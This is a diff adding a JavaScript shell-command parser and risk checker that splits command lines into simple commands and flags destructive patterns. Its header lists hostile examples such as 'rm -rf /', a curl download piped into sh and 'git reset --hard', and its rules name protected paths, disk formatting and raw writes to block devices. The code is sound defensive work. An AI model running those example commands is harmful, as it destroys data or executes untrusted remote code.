@@ -0,0 +1,427 @@
+/**
+ * Shell Parser — split a shell command line into the simple commands it
+ * would run, so each can be evaluated on its own.
+ *
+ *   git status && bash -c "rm -rf /"      -> git status | rm -rf /
+ *   ls | xargs rm                         -> ls | xargs rm | rm
+ *   curl https://x.example/i.sh | sh      -> curl ... | sh   (sh reads piped input)
+ *   echo $(git reset --hard)              -> echo $(git reset --hard) | git reset --hard
+ *
+ * The tokenizer understands quoting, escapes, `$(...)` and backtick
+ * substitutions, redirections, heredocs and the `&& || ; | &` operators.
+ * `sh -c`, `eval`, `sudo`, `env`, `nohup`, `time`, `nice`, `timeout`,
+ * `xargs` and `find -exec` are unwrapped. It does not expand variables,
+ * globs or aliases.
+ */
+
+// ============================================================================
+// Constants
+// ============================================================================
+
+const CONTROL_OPERATORS = ['&&', '||', ';;', '|&', ';', '|', '&', '\n', '(', ')'];
+
+const REDIRECT_TARGET = /^("[^"]*"|'[^']*'|[^\s;&|()<>]+)?/;
+
+const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'fish']);
+const INTERPRETERS = new Set([...SHELLS, 'python', 'python3', 'node', 'perl', 'ruby', 'php']);
+
+// Wrappers that run the rest of their arguments as a command, with the
+// options that take a separate value.
+const WRAPPERS = {
+  sudo: ['-u', '-g', '-h', '-p', '-C', '-D', '-r', '-t', '-U'],
+  doas: ['-u', '-C'],
+  env: ['-u', '-C', '--unset', '--chdir'],
+  nohup: [],
+  time: ['-f', '-o'],
+  command: [],
+  exec: ['-a'],
+  builtin: [],
+  nice: ['-n', '--adjustment'],
+  ionice: ['-c', '-n', '-p'],
+  stdbuf: ['-i', '-o', '-e'],
+  timeout: ['-k', '-s', '--kill-after', '--signal'],
+};
+
+const XARGS_VALUE_OPTIONS = ['-I', '-i', '-n', '-P', '-L', '-l', '-d', '-E', '-e', '-s', '-a', '--max-args', '--max-procs', '--delimiter', '--arg-file'];
+
+const FIND_EXEC_ACTIONS = new Set(['-exec', '-execdir', '-ok', '-okdir']);
+
+const PROTECTED_PATHS = new Set([
+  '/', '/*', '~', '~/', '~/*', '$HOME', '${HOME}', '$HOME/', '$HOME/*', '*', '.', './', './*', '..',
+  '/home', '/etc', '/usr', '/var', '/bin', '/sbin', '/lib', '/boot', '/opt', '/root', '/System', '/Users',
+]);
+
+const BLOCK_DEVICE = /^\/dev\/(sd|hd|vd|xvd|nvme|disk|mmcblk)/;
+
+// Nested `sh -c` / `eval` / substitutions deeper than this are not unwrapped.
+const MAX_DEPTH = 4;
+
+// ============================================================================
+// Tokenizer
+// ============================================================================
+
+/** Read a balanced `$(...)` starting at `start` (the `(`); returns the end index. */
+function readBalanced(input, start) {
+  let depth = 0;
+  let quote = null;
+  for (let i = start; i < input.length; i++) {
+    const char = input[i];
+    if (quote) {
+      if (char === '\\' && quote === '"') i++;
+      else if (char === quote) quote = null;
+      continue;
+    }
+    if (char === '\\') { i++; continue; }
+    if (char === '\'' || char === '"') quote = char;
+    else if (char === '(') depth++;
+    else if (char === ')' && --depth === 0) return i;
+  }
+  return input.length;
+}
+
+function readBacktick(input, start) {
+  for (let i = start + 1; i < input.length; i++) {
+    if (input[i] === '\\') i++;
+    else if (input[i] === '`') return i;
+  }
+  return input.length;
+}
+
+/**
+ * Tokenize a command line into words, control operators and redirections.
+ * Quotes are removed from words; substitutions stay in the word text and
+ * their inner command is listed in `substitutions`.
+ */
+export function tokenizeShell(command) {
+  const input = String(command ?? '');
+  const tokens = [];
+  const heredocs = [];
+  let word = null;
+
+  const startWord = () => { if (!word) word = { type: 'word', value: '', substitutions: [] }; };
+  const endWord = () => { if (word) tokens.push(word); word = null; };
+
+  const readSubstitution = (i) => {
+    // `$((` is arithmetic, not a command.
+    const end = readBalanced(input, i + 1);
+    const raw = input.slice(i, end + 1);
+    if (input[i + 2] !== '(') word.substitutions.push(input.slice(i + 2, end));
+    word.value += raw;
+    return end;
+  };
+  const readBacktickSubstitution = (i) => {
+    const end = readBacktick(input, i);
+    word.substitutions.push(input.slice(i + 1, end).replace(/\\`/g, '`'));
+    word.value += input.slice(i, end + 1);
+    return end;
+  };
+
+  for (let i = 0; i < input.length; i++) {
+    const char = input[i];
+
+    if (char === ' ' || char === '\t') { endWord(); continue; }
+
+    if (char === '\\') {
+      if (input[i + 1] === '\n') { i++; continue; }
+      startWord();
+      word.value += input[i + 1] ?? '';
+      i++;
+      continue;
+    }
+
+    if (char === '#' && !word) {
+      while (i + 1 < input.length && input[i + 1] !== '\n') i++;
+      continue;
+    }
+
+    if (char === '\'') {
+      startWord();
+      const end = input.indexOf('\'', i + 1);
+      const close = end === -1 ? input.length : end;
+      word.value += input.slice(i + 1, close);
+      i = close;
+      continue;
+    }
+
+    if (char === '$' && input[i + 1] === '\'') {
+      startWord();
+      let j = i + 2;
+      for (; j < input.length && input[j] !== '\''; j++) {
+        if (input[j] === '\\') { j++; word.value += { n: '\n', t: '\t' }[input[j]] ?? input[j] ?? ''; } else word.value += input[j];
+      }
+      i = j;
+      continue;
+    }
+
+    if (char === '"') {
+      startWord();
+      let j = i + 1;
+      for (; j < input.length && input[j] !== '"'; j++) {
+        if (input[j] === '\\' && '"\\$`\n'.includes(input[j + 1])) {
+          if (input[j + 1] !== '\n') word.value += input[j + 1];
+          j++;
+        } else if (input[j] === '$' && input[j + 1] === '(') {
+          j = readSubstitution(j);
+        } else if (input[j] === '`') {
+          j = readBacktickSubstitution(j);
+        } else {
+          word.value += input[j];
+        }
+      }
+      i = j;
+      continue;
+    }
+
+    if (char === '$' && input[i + 1] === '(') {
+      startWord();
+      i = readSubstitution(i);
+      continue;
+    }
+
+    if (char === '`') {
+      startWord();
+      i = readBacktickSubstitution(i);
+      continue;
+    }
+
+    // Redirections: [n]> >> < << <<< >& <& &> with the target as the next word.
+    const redirect = input.slice(i).match(/^(&>>?|>>?&?|<<<|<<-?|<&?|>\|)/);
+    if (redirect) {
+      let fd = '';
+      if (word && /^\d+$/.test(word.value)) { fd = word.value; word = null; } else endWord();
+      const op = fd + redirect[1];
+      i += redirect[1].length;
+      const dup = op.endsWith('&') ? input.slice(i).match(/^(\d+|-)/) : null;
+      if (dup) {
+        tokens.push({ type: 'redirect', op, target: dup[1] });
+        i += dup[1].length - 1;
+        continue;
+      }
+      while (input[i] === ' ' || input[i] === '\t') i++;
+      const raw = input.slice(i).match(REDIRECT_TARGET)[0];
+      const target = tokenizeShell(raw)[0]?.value ?? '';
+      i += raw.length - 1;
+      if (op.startsWith('<<') && op !== '<<<') heredocs.push({ delimiter: target, strip: op === '<<-' });
+      tokens.push({ type: 'redirect', op, target });
+      continue;
+    }
+
+    const operator = CONTROL_OPERATORS.find((candidate) => input.startsWith(candidate, i));
+    if (operator) {
+      endWord();
+      tokens.push({ type: 'op', value: operator });
+      i += operator.length - 1;
+      if (operator === '\n' && heredocs.length > 0) {
+        // Skip heredoc bodies; they are data, not commands.
+        for (const { delimiter, strip } of heredocs.splice(0)) {
+          while (i < input.length - 1) {
+            const lineEnd = input.indexOf('\n', i + 1);
+            const line = input.slice(i + 1, lineEnd === -1 ? input.length : lineEnd);
+            i = lineEnd === -1 ? input.length : lineEnd;
+            if ((strip ? line.replace(/^\t+/, '') : line) === delimiter) break;
+          }
+        }
+      }
+      continue;
+    }
+
+    startWord();
+    word.value += char;
+  }
+  endWord();
+  return tokens;
+}
+
+// ============================================================================
+// Segmentation
+// ============================================================================
+
+function basename(word) {
+  return String(word ?? '').split('/').pop();
+}
+
+function splitSimpleCommands(tokens) {
+  const commands = [];
+  let current = { words: [], redirects: [], substitutions: [], pipedFrom: null };
+  const finish = (op) => {
+    const piped = op === '|' || op === '|&';
+    if (current.words.length > 0 || current.redirects.length > 0) commands.push(current);
+    const previous = current.words.length > 0 ? current : null;
+    current = { words: [], redirects: [], substitutions: [], pipedFrom: piped ? previous : null };
+  };
+  for (const token of tokens) {
+    if (token.type === 'op') finish(token.value);
+    else if (token.type === 'redirect') current.redirects.push({ op: token.op, target: token.target });
+    else {
+      // Brace groups are only grouping.
+      if ((token.value === '{' || token.value === '}') && token.substitutions.length === 0) continue;
+      current.words.push(token.value);
+      current.substitutions.push(...token.substitutions);
+    }
+  }
+  finish(null);
+  return commands;
+}
+
+function skipOptions(words, start, valueOptions) {
+  let index = start;
+  while (index < words.length && words[index].startsWith('-') && words[index] !== '--') {
+    if (valueOptions.includes(words[index])) index++;
+    index++;
+  }
+  if (words[index] === '--') index++;
+  return index;
+}
+
+/** Strip leading assignments and wrappers (`sudo`, `env`, `nohup`, ...). */
+function unwrapWrappers(words) {
+  const wrappers = [];
+  let index = 0;
+  for (;;) {
+    while (index < words.length - 1 && /^[A-Za-z_][A-Za-z0-9_]*=/.test(words[index])) index++;
+    const name = basename(words[index]);
+    if (!(name in WRAPPERS) || index >= words.length - 1) break;
+    wrappers.push(name);
+    index = skipOptions(words, index + 1, WRAPPERS[name]);
+    if (name === 'nice' && /^-\d+$/.test(words[index] ?? '')) index++;
+    if (name === 'timeout') index++;
+  }
+  return { words: words.slice(index), wrappers };
+}
+
+function shellScriptArgument(words) {
+  const flag = words.findIndex((word, index) => index > 0 && /^-[a-zA-Z]*c[a-zA-Z]*$/.test(word));
+  return flag === -1 ? null : words[flag + 1] ?? null;
+}
+
+function makeSegment(words, command, source, depth, wrappers) {
+  return {
+    text: words.join(' '),
+    name: basename(words[0]),
+    words,
+    args: words.slice(1),
+    source,
+    depth,
+    wrappers,
+    redirects: command.redirects,
+    substitutions: command.substitutions,
+    pipedFrom: command.pipedFrom ? { name: basename(unwrapWrappers(command.pipedFrom.words).words[0]), text: command.pipedFrom.words.join(' ') } : null,
+  };
+}
+
+function expandCommand(command, source, depth, segments) {
+  const { words, wrappers } = unwrapWrappers(command.words);
+  const name = basename(words[0]);
+  const inner = depth < MAX_DEPTH;
+
+  // The script of `sh -c` / `eval` still holds its substitutions, so they
+  // are found when the script itself is parsed.
+  if (SHELLS.has(name) && shellScriptArgument(words) != null && inner) {
+    collectSegments(shellScriptArgument(words), `${name} -c`, depth + 1, segments);
+    return;
+  }
+  if (name === 'eval' && inner) {
+    collectSegments(words.slice(1).join(' '), 'eval', depth + 1, segments);
+    return;
+  }
+  if (words.length > 0) segments.push(makeSegment(words, command, source, depth, wrappers));
+
+  if (name === 'xargs' && inner) {
+    const rest = words.slice(skipOptions(words, 1, XARGS_VALUE_OPTIONS));
+    if (rest.length > 0) expandCommand({ ...command, words: rest, substitutions: [], pipedFrom: null }, 'xargs', depth + 1, segments);
+  }
+
+  if (name === 'find' && inner) {
+    words.forEach((word, index) => {
+      if (!FIND_EXEC_ACTIONS.has(word)) return;
+      const end = words.findIndex((candidate, at) => at > index && (candidate === ';' || candidate === '+'));
+      const execWords = words.slice(index + 1, end === -1 ? words.length : end).filter((candidate) => candidate !== '{}');
+      if (execWords.length > 0) {
+        expandCommand({ ...command, words: execWords, substitutions: [], pipedFrom: null }, 'find -exec', depth + 1, segments);
+      }
+    });
+  }
+
+  if (inner) {
+    for (const substitution of command.substitutions) collectSegments(substitution, 'substitution', depth + 1, segments);
+  }
+}
+
+function collectSegments(command, source, depth, segments) {
+  for (const simple of splitSimpleCommands(tokenizeShell(command))) expandCommand(simple, source, depth, segments);
+  return segments;
+}
+
+/**
+ * Split a command line into the simple commands it runs. Each segment has
+ * its normalized `text` (quotes removed, wrappers stripped), `name`,
+ * `args`, the `source` it came from (`command`, `bash -c`, `eval`,
+ * `substitution`, `xargs`, `find -exec`), its `redirects`, and `pipedFrom`
+ * when it reads the output of another command.
+ */
+export function parseShellCommand(command) {
+  return collectSegments(command, 'command', 0, []);
+}
+
+// ============================================================================
+// Structural risks
+// ============================================================================
+
+function isProtectedPath(path) {
+  return PROTECTED_PATHS.has(path.replace(/\/+$/, '') || '/');
+}
+
+// The working directory is a normal find root; only system and home roots count.
+function isSystemPath(path) {
+  return isProtectedPath(path) && !/^(\.{1,2}|\*)(\/\*?)?$/.test(path);
+}
+
+function findRoots(args) {
+  const firstExpression = args.findIndex((arg) => arg.startsWith('-') || arg === '(' || arg === '!');
+  return args.slice(0, firstExpression === -1 ? args.length : firstExpression);
+}
+
+/**
+ * Risks the regex gates cannot see in a single segment, each with a
+ * severity: `block` for recursive deletes of root-like paths (however the
+ * flags are spelt), find deletes from such a root and writes to block
+ * devices; `confirm` for deletes driven by find or xargs and for piped
+ * input executed by a shell or interpreter.
+ */
+export function findShellRisks(segment) {
+  const risks = [];
+  const block = (reason) => risks.push({ severity: 'block', reason });
+  const confirm = (reason) => risks.push({ severity: 'confirm', reason });
+  const { name, args } = segment;
+
+  if (name === 'rm') {
+    const short = args.filter((arg) => /^-[a-zA-Z]+$/.test(arg)).join('');
+    const recursive = /[rR]/.test(short) || args.includes('--recursive');
+    const target = args.find((arg) => !arg.startsWith('-') && isProtectedPath(arg));
+    if (recursive && target) block(`recursive delete of ${target}`);
+    if (segment.source === 'xargs') confirm('rm runs on paths supplied by xargs');
+    if (segment.source === 'find -exec') confirm('rm runs on every file find matches');
+  }
+  if (name === 'find') {
+    const deletes = args.includes('-delete') || args.some((arg, index) => FIND_EXEC_ACTIONS.has(arg) && basename(args[index + 1]) === 'rm');
+    const root = findRoots(args).find(isSystemPath);
+    if (deletes && root) block(`find deletes files under ${root}`);
+    else if (args.includes('-delete')) confirm('find deletes every file it matches');
+  }
+  if (INTERPRETERS.has(name) && segment.pipedFrom) {
+    const scriptArgs = args.filter((arg) => arg !== '-' && !/^-[a-zA-Z]+$/.test(arg));
+    if (scriptArgs.length === 0) confirm(`output of ${segment.pipedFrom.name} is executed by ${name}`);
+  }
+  if (/^mkfs(\.|$)/.test(name) || name === 'wipefs') block(`${name} formats a device`);
+  if (name === 'dd' && args.some((arg) => arg.startsWith('of=') && BLOCK_DEVICE.test(arg.slice(3)))) {
+    block('dd writes to a block device');
+  }
+  if (segment.redirects.some((redirect) => redirect.op.includes('>') && BLOCK_DEVICE.test(redirect.target))) {
+    block('output is redirected to a block device');
+  }
+  if ((name === 'chmod' || name === 'chown') && args.some((arg) => /^-[a-zA-Z]*R/.test(arg) || arg === '--recursive')
+    && args.some((arg) => arg === '/' || arg === '/*')) {
+    block(`recursive ${name} of /`);
+  }
+  return risks;
+}